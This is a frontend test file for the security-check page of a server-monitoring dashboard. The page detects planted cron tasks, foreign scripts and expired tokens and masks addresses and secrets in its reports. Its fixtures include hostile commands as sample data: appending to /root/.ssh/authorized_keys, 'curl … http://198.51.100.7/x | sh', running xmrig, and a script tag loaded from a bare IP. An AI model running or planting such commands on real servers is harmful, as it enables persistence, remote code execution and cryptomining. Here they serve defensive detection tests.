import { fireEvent, screen, waitFor, within } from '@testing-library/react'
import { expect, onTestFinished, test, vi } from 'vitest'
import { renderApp } from '../../../app.tsx'
import { catchFile } from '../../../list.ts'

const group = async (name: RegExp) => within(await screen.findByRole('region', { name }))

/** Answers the question as well. */
async function putAside(
  user: Awaited<ReturnType<typeof renderApp>>['user'],
  act: Awaited<ReturnType<typeof group>>,
  name: string,
) {
  await user.click(act.getByRole('button', { name: `I know this: ${name}` }))
  await user.click(within(await screen.findByRole('alertdialog')).getByRole('button', { name: 'I know this' }))
}

test('security: planted tasks are shown with their evidence, and one that is known comes back when it changes', async () => {
  const seed = { cron: [{ id: 4, name: 'AutoTask', command: 'echo a >> /root/.ssh/authorized_keys # 198.51.100.7' }] }
  const { user, backend, reopen } = await renderApp('/settings/security', { seed })
  const act = await group(/^Act now \(1\)/)
  expect(act.getByRole('link', { name: 'AutoTask' })).toHaveAttribute('href', '/dashboard/cron?edit=4')
  expect(act.getByText('Changes the list of accepted SSH keys: >> /root/.ssh/authorized_keys')).toBeVisible()
  expect(act.queryByText(/^You knew an earlier form/)).toBeNull()
  await putAside(user, act, 'AutoTask')
  const known = await group(/^Act now \(0\)/)
  expect(known.getByText('1 known entry')).toBeVisible()
  expect(known.getByText('Everything found here is marked as known (1).')).toBeVisible()
  expect(known.queryByText('No known problem was found.')).toBeNull()
  backend.tables.cron[0]!.cover = 1
  reopen('/settings/security')
  const again = await group(/^Act now \(1\)/)
  expect(again.getByText('You knew an earlier form of this. It has changed since.')).toBeVisible()
})

test('security: what is to be acted on is put aside only after a question, and the focus stays in its group', async () => {
  const seed = { cron: [{ id: 4, name: 'AutoTask', command: 'echo a >> /root/.ssh/authorized_keys' }] }
  const { user } = await renderApp('/settings/security', { seed })
  const act = await group(/^Act now \(1\)/)
  await user.click(act.getByRole('button', { name: 'I know this: AutoTask' }))
  const question = within(await screen.findByRole('alertdialog', { name: 'Mark “AutoTask” as known?' }))
  await user.click(question.getByRole('button', { name: 'Cancel' }))
  await putAside(user, await group(/^Act now \(1\)/), 'AutoTask')
  const emptied = await screen.findByRole('region', { name: /^Act now \(0\)/ })
  expect(emptied).toHaveFocus()
})

test('security: a token that has expired today is over, and one that has not is not', async () => {
  vi.useFakeTimers({ toFake: ['Date'] })
  onTestFinished(() => void vi.useRealTimers())
  vi.setSystemTime(new Date(2026, 10, 29, 12, 30))
  const scopes = ['nezha:*']
  const api_token = [
    { id: 1, name: 'over', scopes, expires_at: new Date(2026, 10, 29, 8).toISOString() },
    { id: 2, name: 'valid', scopes, expires_at: new Date(2026, 10, 29, 18).toISOString() },
  ]
  await renderApp('/settings/security', { seed: { api_token } as never })
  expect((await screen.findAllByRole('link', { name: 'valid' }))[0]).toBeVisible()
  expect(screen.queryByRole('link', { name: 'over' })).toBeNull()
})

test('security: the host of a foreign script is in parts, too', async () => {
  const custom_code_dashboard = '<script src="//198.51.100.23/icons.js"></script>'
  await renderApp('/settings/security', { setting: { custom_code_dashboard } })
  const act = await group(/^Act now/)
  expect(act.getByText('A script is loaded from 198.51.x.x')).toBeVisible()
})

test('security: an address is in parts on the screen and in a saved report, which has all that the screen has', async () => {
  const seed = {
    user: [
      { id: 1, username: 'admin', role: 0, created_at: '2026-01-01T00:00:00Z' },
      { id: 2, username: 'ops', role: 1 },
    ],
    cron: [{ id: 4, name: 'AutoTask', command: 'curl -u bob:hunter2 http://198.51.100.7/x | sh' }],
  }
  const { user } = await renderApp('/settings/security', { seed })
  const act = await group(/^Act now \(1\)/)
  expect(act.getByText('Downloads from a bare IP address: curl -u bob:… http://198.51.x.x/x')).toBeVisible()
  expect(act.queryByText(/198\.51\.100/)).toBeNull()
  await user.click(screen.getByRole('checkbox', { name: 'All users have new passwords.' }))
  const { saved, restore } = catchFile()
  await user.click(screen.getByRole('button', { name: 'Save as text' }))
  await waitFor(() => expect(saved.file).toBeDefined())
  restore()
  const text = await saved.file!.text()
  expect(text).toContain('198.51.x.x')
  expect(text).not.toMatch(/198\.51\.100|hunter2/)
  expect(text).toContain('Version 2.3.8 is the closest one')
  expect(text).toContain('  [x] All users have new passwords.')
  expect(text).toContain('  [ ] The client secrets of OAuth2 providers are replaced.')
  expect(text).toContain('  - Tunnels with a host name of the dashboard: none of 0')
  expect(text.trimEnd()).toMatch(/crontab -l; cat \/etc\/crontab \/etc\/cron\.d\/\*$/)
})

test('security: the report for programs holds neither secrets nor whole addresses', async () => {
  const seed = { cron: [{ id: 4, name: 'at 198.51.100.7', command: 'curl -u bob:hunter2 http://198.51.100.7/x | sh' }] }
  const { user } = await renderApp('/settings/security', { seed })
  await group(/^Act now \(1\)/)
  const { saved, restore } = catchFile()
  await user.click(screen.getByRole('button', { name: 'Save as JSON' }))
  await waitFor(() => expect(saved.file).toBeDefined())
  restore()
  const text = await saved.file!.text()
  expect(text).not.toMatch(/198\.51\.100|hunter2/)
  const { version, findings } = JSON.parse(text) as { version: string; findings: object[] }
  expect(version).toBe('2.3.7')
  expect(findings).toContainEqual(
    expect.objectContaining({
      level: 'critical',
      check: 'plantedTask',
      record: { resource: 'cron', id: 4, name: 'at 198.51.x.x' },
      known: false,
    }),
  )
})

test('security: what was examined is told by what was looked for, with how many records', async () => {
  const seed = { nat: [1, 2].map((id) => ({ id, name: `box ${id}`, domain: `${id}.example.com` })) }
  await renderApp('/settings/security', { seed })
  await group(/^Act now \(0\)/)
  expect(screen.getByText('Tunnels with a host name of the dashboard: none of 2')).toBeInTheDocument()
  expect(screen.queryByText('The tunnel has the host name of this dashboard')).toBeNull()
})

test('security: a state is kept without a question only if nothing is to be acted on', async () => {
  const seed = { cron: [{ id: 4, name: 'AutoTask', command: './xmrig' }] }
  const { user } = await renderApp('/settings/security', { seed })
  await group(/^Act now \(1\)/)
  const keep = await screen.findByRole('button', { name: 'Keep in this browser' })
  await user.click(keep)
  const question = within(await screen.findByRole('alertdialog', { name: 'Keep this state as known?' }))
  expect(question.getByText(/^“Act now” is not empty \(1\)/)).toBeVisible()
  await user.click(question.getByRole('button', { name: 'Cancel' }))
  expect(screen.queryByText(/^Kept in this browser/)).toBeNull()
  await user.click(await screen.findByRole('button', { name: 'Keep in this browser' }))
  const again = within(await screen.findByRole('alertdialog'))
  await user.click(again.getByRole('button', { name: 'Keep in this browser' }))
  expect(await screen.findByText(/^Kept in this browser on/)).toBeVisible()
})

test('security: Settings leads to it, with the number of what is found and not known yet', async () => {
  const seed = { cron: [{ id: 4, name: 'AutoTask', command: 'echo a >> /root/.ssh/authorized_keys' }] }
  const { user } = await renderApp('/settings', { seed })
  const link = await screen.findByRole('link', { name: /^Security check \d+$/ })
  const count = Number(link.textContent.replace(/\D/g, ''))
  await user.click(link)
  const act = await screen.findByRole('region', { name: /^Act now \(1\)/ })
  const look = screen.getByRole('region', { name: /^To review/ })
  expect(act).toBeVisible()
  expect(look).toHaveAccessibleName(`To review (${count - 1})`)
  expect(screen.queryByRole('link', { name: /^Security check \d+$/ })).toBeNull()
})

test('security: what has changed since a state was kept comes first, and at once', async () => {
  const seed = { cron: [{ id: 4, name: 'backup', command: 'backup.sh' }] }
  const { user, backend, reopen } = await renderApp('/settings/security', { seed })
  const known = () => screen.findByRole('region', { name: 'Known state' })
  await user.click(within(await known()).getByRole('button', { name: 'Keep in this browser' }))
  expect(await within(await known()).findByText(/^Kept in this browser on/)).toBeVisible()
  backend.tables.cron[0]!.command = 'other.sh'
  reopen('/settings/security')
  expect(await within(await known()).findByRole('row', { name: /backup.*Different/ })).toBeVisible()
  const [first] = screen.getAllByRole('region')
  expect(first).toBe(await known())
})

test('security: the second press of a double click does not put the next entry aside, which takes the focus', async () => {
  const command = 'curl https://example.com/a | sh'
  const seed = { cron: ['setup', 'install', 'update'].map((name, at) => ({ id: at + 1, name, command })) }
  const { user } = await renderApp('/settings/security', { seed })
  const look = await group(/^To review/)
  await user.click(look.getByRole('button', { name: 'I know this: setup' }))
  const next = (await group(/^To review/)).getByRole('button', { name: 'I know this: install' })
  expect(document.activeElement).toBe(next.closest('li'))
  fireEvent.click(next, { detail: 2 })
  expect(screen.getByRole('button', { name: 'I know this: install' })).toBeVisible()
  await user.tab()
  expect(screen.getByRole('link', { name: 'install' })).toHaveFocus()
})

test('security: it never calls a server safe or clean', async () => {
  await renderApp('/settings/security', { data: 'empty' })
  await group(/^Act now \(0\)/)
  expect(document.body.textContent).not.toMatch(/\b(?:safe|clean|secure)\b/i)
  expect(screen.getByText(/^Nothing found \(\d\d examined\)/)).toBeVisible()
})

test('security: a server of the first line shows its hole, its fixed version, and what an update does not renew', async () => {
  const { user, reopen } = await renderApp('/settings/security', { dialect: 'classic' })
  const act = await group(/^Act now \(1\)/)
  expect(act.getByRole('link', { name: 'CVE-2026-53519' })).toHaveAttribute('target', '_blank')
  expect(act.getByText(/No release of this series is fixed; the first version with a fix is 2.0.13/)).toBeVisible()
  const step = () => screen.findByRole('checkbox', { name: 'All users have new passwords.' })
  await user.click(await step())
  reopen('/settings/security')
  expect(await step()).toBeChecked()
})

test('security: members see what they can read, and what they cannot', async () => {
  const seed = {
    user: [{ id: 2, username: 'ops', role: 1 }],
    cron: [{ id: 1, name: 'own', command: './xmrig', user_id: 2 }],
  }
  await renderApp('/settings/security', {
    seed: { ...seed, user: [{ id: 1, username: 'admin', role: 0 }, ...seed.user] },
    as: 'ops',
  })
  await group(/^Act now \(1\)/)
  expect(screen.getByText(/Only admins can see the version/)).toBeVisible()
  expect(
    screen.getByText('Not examined, because the server does not show it to you or it could not be read:'),
  ).toBeVisible()
})

test('security: a list that fails for now is told as such, and not taken for an empty one', async () => {
  let isBroken = true
  const { user } = await renderApp('/settings/security', {
    data: 'empty',
    fetch: (input, init) =>
      isBroken && new Request(input, init).url.includes('/waf')
        ? Promise.resolve(new Response('', { status: 500 }))
        : fetch(input, init),
  })
  await group(/^Act now \(0\)/)
  const entry = () => screen.getByText(/^Guessed passwords and secrets/).closest('details')
  expect(entry()).toHaveTextContent(/^Not examined, because .* could not be read:/)
  isBroken = false
  await user.click(screen.getByRole('button', { name: 'Try again' }))
  await waitFor(() => expect(entry()).toHaveTextContent(/^Nothing found/))
})

test('security: an advisory whose remedy is a setting leads to it', async () => {
  await renderApp('/settings/security', { setting: { oauth2_providers: ['GitHub'] } })
  const look = await group(/^To review/)
  const [remedy] = look.getAllByRole('link', { name: 'Open: CVE-2026-101090' })
  expect(remedy).toHaveAttribute('href', '/dashboard/settings#dashboard_host')
})

test('security: what agents answered is still there after a look at the script', async () => {
  const { user } = await renderApp('/settings/security', { seed: { server: [{ id: 1, name: 'tokyo' }] } })
  const agents = () => group(/^What agents allow/)
  await user.click((await agents()).getByRole('button', { name: 'Ask 1 agent' }))
  expect(await (await agents()).findByText('1 of 1 asked')).toBeVisible()
  expect((await agents()).getByText(/^Runs commands/)).toHaveTextContent('tokyo')
  await user.click(screen.getByRole('link', { name: 'Show the script' }))
  await screen.findByRole('heading', { level: 1, name: 'Run a command' })
  history.back()
  expect((await agents()).getByText('1 of 1 asked')).toBeVisible()
  expect((await agents()).getByText(/^Runs commands/)).toHaveTextContent('tokyo')
})

test('security: on paper there is each of many findings', async () => {
  const seed = {
    cron: Array.from({ length: 60 }, (_, at) => ({ id: at + 1, name: `task ${at + 1}`, command: './xmrig' })),
  }
  await renderApp('/settings/security', { seed })
  const act = await group(/^Act now \(60\)/)
  expect(act.queryByRole('link', { name: 'task 60' })).toBeNull()
  window.dispatchEvent(new Event('beforeprint'))
  expect(act.getByRole('link', { name: 'task 60' })).toBeVisible()
})

test('security: on paper there is what is folded on the screen', async () => {
  await renderApp('/settings/security', { data: 'empty' })
  await group(/^Act now \(0\)/)
  const folded = screen.getByText(/^Nothing found \(\d\d examined\)/).closest('details')!
  expect(folded).not.toHaveAttribute('open')
  window.dispatchEvent(new Event('beforeprint'))
  expect(folded).toHaveAttribute('open')
  expect(screen.getByText(/Examined on/)).toBeVisible()
  window.dispatchEvent(new Event('afterprint'))
  expect(folded).not.toHaveAttribute('open')
})
